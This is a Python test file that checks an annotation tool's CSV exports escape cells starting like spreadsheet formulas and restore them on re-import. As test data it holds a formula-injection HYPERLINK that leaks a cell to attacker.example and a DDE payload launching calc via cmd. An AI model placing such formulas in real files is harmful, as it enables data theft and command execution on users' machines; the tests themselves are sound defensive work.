"""Exported CSV files are safe to open in a spreadsheet (DESIGN section 9: nothing in an input is executed).

A note, an annotator name or an item id that starts like a formula (`=HYPERLINK(...)`, `@SUM(...)`, `+cmd`)
is written with a leading apostrophe, in the long, wide and gold exports alike, while numeric labels such as
`-1` and `+1` stay as they are. Importing the file back takes the apostrophe off again, so nothing changes.
"""

from __future__ import annotations

import csv
import json
import re
import shutil
from pathlib import Path

import pytest

from annotator.core import Project
from annotator.core.export import export_labels_csv

HYPERLINK = '=HYPERLINK("http://attacker.example/?leak="&A1,"click for details")'
NUMBER = re.compile(r"^[+-]?(\d+(\.\d*)?|\.\d+)([eE][+-]?\d+)?$")
RISKY_START = ("=", "+", "-", "@", "\t", "\r")


@pytest.fixture
def formula_project(tmp_path) -> Path:
    """A project whose ids, names and notes start like spreadsheet formulas."""
    items = tmp_path / "items.csv"
    items.write_text(
        'id,kind,source,prompt,criteria\n'
        '=1+2,rubric,"@import","=cmd|\' /C calc\'!A0","Names the date"\n'
        'plain,rubric,bench,Write a memo.,Is short\n', encoding="utf-8")
    traces = tmp_path / "traces.jsonl"
    traces.write_text(json.dumps({"id": "t1", "kind": "trace", "problem": "What is 6 * 7?",
                                  "steps": ["6 * 7 = 42.", "So 42."]}) + "\n", encoding="utf-8")
    path = tmp_path / "formula.sqlite"
    with Project.create(path, taxonomies=["rift", "step_rating"]) as project:
        project.import_items([items, traces])
        assert project.items.exists("=1+2")  # kept as plain text, never evaluated
        project.labels.add("=1+2", "rift", "@mallory", "criterion:c1", "subjective")
        project.notes.set("=1+2", "rift", "@mallory", "criterion:c1", HYPERLINK)
        project.completion.set_done("=1+2", "rift", "@mallory")
        project.labels.add("plain", "rift", "+eve", "item", "low_signal")
        project.notes.set("plain", "rift", "+eve", "item", "-2 points for length; @here see above")
        project.completion.set_done("plain", "rift", "+eve")
        project.labels.add("t1", "step_rating", "+eve", "step:s1", "+1")
        project.labels.add("t1", "step_rating", "+eve", "step:s2", "-1")
        project.completion.set_done("t1", "step_rating", "+eve")
        project.gold.set("=1+2", "rift", "criterion:c1", ["subjective"], reviewer="@lead")
    return path


def _rows(path: Path) -> list[dict[str, str]]:
    with path.open(newline="", encoding="utf-8") as handle:
        return list(csv.DictReader(handle))


def _risky_cells(path: Path) -> list[str]:
    with path.open(newline="", encoding="utf-8") as handle:
        return [cell for row in csv.reader(handle) for cell in row
                if cell.startswith(RISKY_START) and not NUMBER.match(cell)]


def test_long_export_neutralises_a_hyperlink_note_and_keeps_numeric_labels(formula_project, tmp_path, run_cli):
    out = tmp_path / "long.csv"
    code, _out, err = run_cli("export", formula_project, "-o", out)
    assert code == 0, err
    assert _risky_cells(out) == []
    rows = _rows(out)
    note = next(r["note"] for r in rows if r["item_id"] == "'=1+2")
    assert note == "'" + HYPERLINK
    assert {r["annotator"] for r in rows} == {"'@mallory", "'+eve"}
    assert sorted(r["label"] for r in rows if r["taxonomy"] == "step_rating") == ["+1", "-1"]
    plain = next(r for r in rows if r["item_id"] == "plain")
    assert plain["note"] == "'-2 points for length; @here see above"


def test_wide_and_gold_exports_neutralise_ids_and_names(formula_project, tmp_path, run_cli):
    wide, gold = tmp_path / "wide.csv", tmp_path / "gold.csv"
    assert run_cli("export", formula_project, "-o", wide, "--wide")[0] == 0
    assert run_cli("export", formula_project, "-o", gold, "--gold")[0] == 0
    assert _risky_cells(wide) == []
    assert _risky_cells(gold) == []
    assert "'=1+2" in {r["item_id"] for r in _rows(wide)}
    assert [r["item_id"] for r in _rows(gold)] == ["'=1+2"]


def test_importing_the_export_back_restores_every_cell_exactly(formula_project, tmp_path, run_cli):
    out = tmp_path / "long.csv"
    assert run_cli("export", formula_project, "-o", out)[0] == 0
    fresh = tmp_path / "fresh.sqlite"
    shutil.copy(formula_project, fresh)
    # clear the labels and notes in the copy, then read them back from the file
    with Project.open(fresh) as project:
        for lab in project.labels.for_item("=1+2") + project.labels.for_item("plain") + project.labels.for_item("t1"):
            project.labels.remove(lab.item_id, lab.taxonomy, lab.annotator, lab.target, lab.label)
        project.notes.set("=1+2", "rift", "@mallory", "criterion:c1", "")
        project.notes.set("plain", "rift", "+eve", "item", "")
    code, _out, err = run_cli("labels", "import", fresh, out)
    assert code == 0, err
    with Project.open(formula_project) as before, Project.open(fresh) as after:
        for item_id in ("=1+2", "plain", "t1"):
            assert ({(x.taxonomy, x.annotator, x.target, x.label) for x in after.labels.for_item(item_id)}
                    == {(x.taxonomy, x.annotator, x.target, x.label) for x in before.labels.for_item(item_id)})
        assert after.notes.get("=1+2", "rift", "@mallory", "criterion:c1") == HYPERLINK
        assert after.notes.get("plain", "rift", "+eve", "item") == "-2 points for length; @here see above"


def test_the_wide_header_is_neutralised_too(filled_project, tmp_path):
    """Label ids may start with `-` or `+` (`-1`, `-sum`): as column names they are header cells."""
    from annotator.core.taxonomy import load_taxonomy

    spec = tmp_path / "signs.yaml"
    spec.write_text("id: signs\nname: Signs\napplies_to: [rubric]\nlabels:\n"
                    "  - {id: '-sum', name: Minus sum, target: item}\n"
                    "  - {id: '+1', name: Plus one, target: item}\n"
                    "  - {id: '+cmd', name: Plus command, target: item}\n", encoding="utf-8")
    filled_project.taxonomies.add(load_taxonomy(spec))
    filled_project.labels.add("r1", "signs", "alice", "item", "-sum")
    filled_project.completion.set_done("r1", "signs", "alice")
    out = tmp_path / "wide.csv"
    export_labels_csv(filled_project, out, wide=True, taxonomy="signs")
    with out.open(newline="", encoding="utf-8") as handle:
        header, row = list(csv.reader(handle))
    assert header[-3:] == ["'-sum", "+1", "'+cmd"]
    assert row[-3:] == ["1", "0", "0"]
    assert _risky_cells(out) == []
